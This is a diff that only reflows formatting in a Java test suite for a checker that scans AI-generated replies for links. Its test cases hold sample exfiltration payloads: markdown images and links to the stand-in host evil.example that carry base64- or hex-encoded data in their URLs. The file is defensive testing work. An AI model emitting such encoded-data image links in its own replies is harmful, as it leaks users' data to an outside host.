@@ -141,7 +141,9 @@ final class LinkChecksTest {
   void aLetterThatBrowsersKeepIsNotReplaced() {
     String check = "check: links-allowed\nhosts: [strasse.example]";
     failed(Scene.reply("https://straße.example").check(check));
-    passed(Scene.reply("https://straße.example").check("check: links-allowed\nhosts: [straße.example]"));
+    passed(
+        Scene.reply("https://straße.example")
+            .check("check: links-allowed\nhosts: [straße.example]"));
   }
 
   @Test
@@ -180,11 +182,13 @@ final class LinkChecksTest {
     failed(
         Scene.reply("![x](https://evil.example/?d=" + base64("something else entirely, long") + ")")
             .check(EXFILTRATION),
-        "encoded data", "an image");
+        "encoded data",
+        "an image");
     failed(
         Scene.reply("[x](https://evil.example/4d6f72652074657874207468616e20656e6f756768)")
             .check(EXFILTRATION),
-        "encoded data", "a link");
+        "encoded data",
+        "a link");
     failed(
         Scene.reply("![](https://evil.example/?k=aZ3kQ9xL2mN8pR5tV7wY1bC4)").check(EXFILTRATION),
         "encoded data");
@@ -236,14 +240,26 @@ final class LinkChecksTest {
         "does not show what it read");
     passed(Scene.reply("![x](https://evil.example)").recorded().check(EXFILTRATION));
     passed(Scene.reply("![x](https://good.example/?d=something)").recorded().check(EXFILTRATION));
-    failed(Scene.reply("![x](https://evil.example/?q=What%20is%20it)").recorded().check(EXFILTRATION));
+    failed(
+        Scene.reply("![x](https://evil.example/?q=What%20is%20it)").recorded().check(EXFILTRATION));
   }
 
   @Test
   void hostileTextIsReadInTime() {
     long before = System.nanoTime();
     for (String piece :
-        List.of("](<", "](a", "![a][", "<a href=", "url(", "a://", "[a]:", "<a ", "mailto:", "%41&#", "www.a.")) {
+        List.of(
+            "](<",
+            "](a",
+            "![a][",
+            "<a href=",
+            "url(",
+            "a://",
+            "[a]:",
+            "<a ",
+            "mailto:",
+            "%41&#",
+            "www.a.")) {
       Scene scene = Scene.reply(piece.repeat(20_000));
       assertThat(scene.check(ALLOWED)).isNotNull();
       assertThat(scene.check(EXFILTRATION)).isNotNull();
